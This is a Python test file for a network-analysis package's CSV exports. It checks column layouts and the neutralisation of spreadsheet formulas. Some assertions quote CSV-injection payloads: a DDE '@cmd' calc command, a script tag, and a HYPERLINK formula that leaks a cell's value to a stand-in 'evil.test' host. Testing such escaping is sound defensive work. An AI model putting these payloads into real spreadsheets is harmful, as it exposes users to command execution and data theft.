"""CSV: one flat table per kind, Excel-friendly, formulas neutralised."""

import csv
import io

import pytest

from maillage.reports import render

ACTOR_HEADER = [
    "id",
    "name",
    "sector",
    "community",
    "degree",
    "betweenness",
    "closeness",
    "eigenvector",
    "pagerank",
    "constraint",
    "effective_size",
    "ei_index",
    "brokerage_coordinator",
    "brokerage_itinerant",
    "brokerage_gatekeeper",
    "brokerage_representative",
    "brokerage_liaison",
]


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_report_csv_has_one_row_per_actor_and_brokerage_roles_as_columns(report):
    content = render("report", report, "csv")
    assert content.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in content
    header, *rows = rows_of(content)
    assert header == ACTOR_HEADER
    assert len(rows) == 9
    first = dict(zip(header, rows[0], strict=True))
    assert first == {
        "id": "a1",
        "name": "Mairie de Morlaix",
        "sector": "public",
        "community": "0",
        "degree": "5",
        "betweenness": "0.7143",
        "closeness": "0.7778",
        "eigenvector": "0.6035",
        "pagerank": "0.2583",
        "constraint": "0.3622",
        "effective_size": "4.2",
        "ei_index": "1.0",
        "brokerage_coordinator": "0",
        "brokerage_itinerant": "0",
        "brokerage_gatekeeper": "0",
        "brokerage_representative": "0",
        "brokerage_liaison": "16",
    }
    isolate = dict(zip(header, rows[-1], strict=True))
    assert (isolate["constraint"], isolate["effective_size"], isolate["ei_index"]) == ("", "", "")
    assert dict(zip(header, rows[6], strict=True))["ei_index"] == "-1.0"


def test_report_csv_neutralises_formulas_and_keeps_numbers(hostile_report):
    header, *rows = rows_of(render("report", hostile_report, "csv"))
    assert rows[0][0] == "'@cmd|' /C calc'!A0"
    assert rows[0][1] == "<script>alert(1)</script>"
    assert rows[2][1] == '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
    assert rows[6][header.index("ei_index")] == "-1.0"
    texts = [value for row in rows for value in row if not _is_number(value)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_gaps_csv_is_sector_pairs_left_joined_with_introductions(gaps):
    header, *rows = rows_of(render("gaps", gaps, "csv"))
    assert header[:8] == [
        "sector_a",
        "sector_b",
        "observed",
        "expected",
        "z",
        "gap",
        "fragile",
        "bridges",
    ]
    assert header[8:] == [
        "source_id",
        "source_name",
        "source_sector",
        "target_id",
        "target_name",
        "target_sector",
        "score",
        "distance",
        "shared_partners",
        "reason",
    ]
    records = [dict(zip(header, row, strict=True)) for row in rows]
    # 21 unordered pairs of 6 sectors; association x business has two introductions.
    assert len(records) == 22
    first, second, third = records[:3]
    assert (first["sector_a"], first["sector_b"], first["gap"], first["z"]) == (
        "association",
        "business",
        "true",
        "-1.49",
    )
    assert (first["source_name"], first["target_name"]) == (
        "Coopérative Ti Kafe",
        "Association Ener'gence",
    )
    assert (second["source_id"], second["target_id"], second["shared_partners"]) == ("a7", "a8", "")
    assert (third["sector_a"], third["sector_b"]) == ("business", "funder")
    assert (third["fragile"], third["bridges"], third["target_id"]) == (
        "true",
        "Mairie de Morlaix",
        "a6",
    )
    media = next(r for r in records if (r["sector_a"], r["sector_b"]) == ("media", "media"))
    assert (media["gap"], media["fragile"], media["z"], media["source_id"]) == ("false", "", "", "")
    assert {(r["sector_a"], r["sector_b"]) for r in records} >= {("academic", "public")}
    assert ("public", "academic") not in {(r["sector_a"], r["sector_b"]) for r in records}


def test_gaps_csv_neutralises_partner_names(hostile_gaps):
    header, *rows = rows_of(render("gaps", hostile_gaps, "csv"))
    partners = [row[header.index("shared_partners")] for row in rows]
    assert '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click me")' in partners


def test_compare_csv_has_one_row_per_indicator_and_a_column_per_territory(compare):
    header, *rows = rows_of(render("compare", compare, "csv"))
    assert header[:7] == [
        "indicator",
        "label",
        "Pays de Morlaix",
        "Pays de Brest",
        "Pays de Morlaix (normalised)",
        "Pays de Brest (normalised)",
        "description",
    ]
    assert header[7:9] == ["Pays de Morlaix (z)", "Pays de Brest (z)"]
    assert header[9:11] == ["Pays de Morlaix (tied)", "Pays de Brest (tied)"]
    assert rows[1][:7] == [
        "density",
        "Density",
        "0.25",
        "0.061",
        "1.0",
        "0.71",
        "Share of possible ties that exist",
    ]
    assert rows[3][3] == ""  # NaN


def test_compare_csv_lists_the_partnership_rates_after_the_indicators(compare):
    header, *rows = rows_of(render("compare", compare, "csv"))
    record = dict(zip(header, rows[4], strict=True))
    assert record["indicator"] == "business→association"
    assert record["label"] == "businesses → associations"
    assert record["Pays de Morlaix"] == "0.333333"
    assert record["Pays de Morlaix (tied)"] == "1"
    assert record["Pays de Morlaix (actors)"] == "3"
    assert record["Pays de Brest (high)"] == "0.277533"
    assert record["Pays de Morlaix (normalised)"] == ""
    assert [row[0] for row in rows[4:]] == ["business→association", "association→public"]


def test_compare_csv_neutralises_territory_names_in_the_header(compare):
    compare["territories"][1] = "=cmd"
    for indicator in compare["indicators"]:
        indicator["values"]["=cmd"] = indicator["values"].pop("Pays de Brest")
    header, *rows = rows_of(render("compare", compare, "csv"))
    assert header[3] == "'=cmd"
    assert rows[0][3] == "41"


def test_bridges_csv(bridges):
    header, *rows = rows_of(render("bridges", bridges, "csv"))
    assert header == [
        *("change", "type", "id", "name", "sector", "source_id", "source_name"),
        *("source_sector", "target_id", "target_name", "target_sector", "sectors"),
    ]
    E = ""
    assert rows == [
        ["gained", "actor", "a3", "Coopérative Ti Kafe", "business", E, E, E, E, E, E,
         "academic–business"],
        ["gained", "tie", E, E, E, "a1", "Mairie de Morlaix", "public", "a3",
         "Coopérative Ti Kafe", "business", "business–public; academic–public"],
        ["lost", "actor", "a5", "Le Télégramme", "media", E, E, E, E, E, E, "association–media"],
    ]  # fmt: skip
    assert not any("[" in cell or "'" in cell for row in rows for cell in row)  # no reprs


def test_empty_report_csv_still_has_its_header(report):
    report["actors"] = []
    assert rows_of(render("report", report, "csv")) == [ACTOR_HEADER]


def test_french_excel_dialect_uses_semicolons_and_decimal_commas():
    from maillage.reports.csv_export import to_csv
    from maillage.reports.export_tables import ExportTable

    table = ExportTable(
        "t", ("name", "share", "count"), [("Brest; Quimper", -0.125, 3), ("=1+1", None, 0)]
    )
    text = to_csv(table, dialect="excel-fr").decode("utf-8-sig")
    assert text.splitlines() == ["name;share;count", '"Brest; Quimper";-0,125;3', "'=1+1;;0"]
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["Brest; Quimper", "-0,125", "3"]
    with pytest.raises(ValueError, match="excel-fr"):
        to_csv(table, dialect="excel-de")
